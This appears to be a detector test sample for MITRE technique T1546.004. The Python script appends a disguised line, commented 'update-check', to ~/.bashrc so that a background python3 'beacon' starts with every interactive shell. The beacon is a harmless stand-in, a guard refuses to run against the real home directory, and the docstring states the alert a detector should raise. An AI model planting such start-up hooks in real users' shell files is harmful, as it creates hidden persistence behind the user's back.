# technique: T1546.004
"""Unix Shell Configuration Modification (T1546.004), spelled with
pathlib's read_text/write_text.

Reads ~/.bashrc, prepends nothing visible but appends a line that starts a
background beacon on every interactive shell, and writes the whole file
back with Path.write_text (an open in mode "w", not "a": the path is
truncated and rewritten, as an editor would).

A good detector raises a medium or high alert: a program writes a shell
start-up file (~/.bashrc) that every login will run.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
from pathlib import Path

rc = Path.home() / ".bashrc"
text = rc.read_text() if rc.exists() else "# ~/.bashrc\n"
text += "\n( nohup python3 -c 'import socket' >/dev/null 2>&1 & )  # update-check\n"
rc.write_text(text)
